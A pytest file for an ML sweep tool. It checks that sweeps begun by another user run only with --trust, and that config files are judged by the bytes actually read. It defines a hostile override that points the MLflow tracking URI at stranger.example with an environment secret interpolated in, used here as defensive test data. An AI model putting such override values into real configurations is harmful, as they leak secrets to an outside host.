"""A sweep that somebody else began is shown, and runs as this user only when that is asked for."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from mgpu_pipe.cli import main as cli
from mgpu_pipe.config import freeze
from mgpu_pipe.sweep import run_points as work
from mgpu_pipe.sweep.store import Store, create
from tests.sweep.support import asked

ADDRESS = "logger.mlflow.tracking_uri=http://stranger.example/${oc.env:SECRET_NAME}"


@pytest.fixture
def foreign(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Store:
    """A sweep that was begun with another user's cache."""
    monkeypatch.setenv("MGPU_PIPE_CACHE", str(tmp_path / "theirs"))
    (tmp_path / "there" / "conf").mkdir(parents=True)
    store = create(tmp_path, "tried", asked(words=["-m", ADDRESS], fixed=[ADDRESS], cwd=str(tmp_path / "there")))
    store.add([[["seed=1"]]])
    monkeypatch.setenv("MGPU_PIPE_CACHE", str(tmp_path / "mine"))
    return store


@pytest.fixture
def acted(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The folders of the sweeps that were run, and where."""
    seen: list[str] = []

    def run(store: Store, *_: Any) -> int:
        seen.append(f"{store.name} in {os.getcwd()}")
        return 0

    monkeypatch.setattr(work, "work", run)
    monkeypatch.chdir(os.getcwd())  # brought back
    return seen


@pytest.mark.parametrize("words", [["resume"], ["retry"], ["cancel"], ["extend", "seed=2"]], ids=lambda words: words[0])
def test_the_sweep_of_another_user_is_not_run(
    words: list[str], foreign: Store, acted: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    action, *more = words
    here, before = os.getcwd(), foreign.points()
    assert cli.main(["sweeps", action, foreign.name, *more, f"run.root={tmp_path}"]) == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert line == (
        f"error: mgpu-pipe sweeps {action} tried: the cache knows no launch of yours that made it; read its command "
        "(mgpu-pipe sweeps show tried) and add --trust"
    )
    assert not acted and os.getcwd() == here and foreign.points() == before and not foreign.cancelled


def test_it_is_run_where_that_is_asked_for(foreign: Store, acted: list[str], tmp_path: Path) -> None:
    assert cli.main(["sweeps", "resume", foreign.name, "--trust", f"run.root={tmp_path}"]) == 0
    assert acted == [f"tried in {tmp_path / 'there'}"]


def test_the_sweep_of_this_user_is_run_after_it_was_amended_and_moved(acted: list[str], tmp_path: Path) -> None:
    store = create(tmp_path, "mine", asked(cwd=str(tmp_path)))
    store.amend(cancelled=True, seeds=3)
    (tmp_path / "sweeps").rename(tmp_path / "moved")
    assert cli.main(["sweeps", "resume", str(tmp_path / "moved" / "mine")]) == 0
    assert len(acted) == 1
    Store(tmp_path / "moved" / "mine").amend(fixed=[ADDRESS])
    assert cli.main(["sweeps", "resume", str(tmp_path / "moved" / "mine")]) == 2


def test_a_configuration_is_judged_by_the_bytes_that_are_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A stranger who changes the file between two reads gets nothing resolved."""
    monkeypatch.setenv("SECRET_NAME", "secret")
    file = tmp_path / "config.yaml"
    file.write_text("run: {name: mine}\n")
    freeze.remember(file)
    known = freeze._memory_file

    def swapped(digest: str) -> Path:
        file.write_text("run: {name: '${oc.env:SECRET_NAME}'}\n")
        return known(digest)

    monkeypatch.setattr(freeze, "_memory_file", swapped)
    assert freeze.load_untrusted(file)[0].run.name == "mine"
    assert freeze.load_untrusted(file)[0].run.name == "${oc.env:SECRET_NAME}"
